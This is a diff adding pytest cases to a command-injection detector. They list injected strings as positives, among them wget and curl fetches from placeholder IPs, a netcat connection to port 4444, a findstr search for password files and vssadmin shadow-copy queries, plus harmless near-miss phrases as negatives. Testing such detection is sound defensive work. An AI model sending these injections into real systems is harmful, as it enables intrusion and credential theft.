@@ -215,3 +215,37 @@ def test_a_data_uri_is_not_the_base64_command() -> None:
 def test_the_windows_shell_variable_and_bash_ansi_c_quoting_are_cmdi(value: str) -> None:
     assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))
     assert "cmdi" not in payload_kinds(query="q=" + quote("100% comspec and $'5' off"))
+
+
+WINDOWS_AND_NETWORK = [
+    "wget http://203.0.113.9/x",
+    "curl https://203.0.113.9/y.sh",
+    "nc 10.0.0.1 4444",
+    "ping 127.0.0.1",
+    "|findstr /s password *.txt",
+    "&vssadmin list shadows",
+    "&tree /f c:\\",
+    "|attrib +h x",
+    "&icacls c:\\x",
+    ";seq 1 10",
+    ";expr 1 + 1",
+]
+NEAR_COMMANDS = [
+    "wget vs curl",
+    "ping pong table",
+    "how to use findstr",
+    "family tree /genealogy",
+    "print / replace",
+    "man / woman",
+    "ver 2.1",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "is_cmdi"),
+    [(v, True) for v in WINDOWS_AND_NETWORK] + [(t, False) for t in NEAR_COMMANDS],
+)
+def test_windows_commands_and_network_tools_given_a_target_are_cmdi_their_names_are_not(
+    value: str, is_cmdi: bool
+) -> None:
+    assert ("cmdi" in payload_kinds(query="c=" + quote(value, safe=""))) is is_cmdi
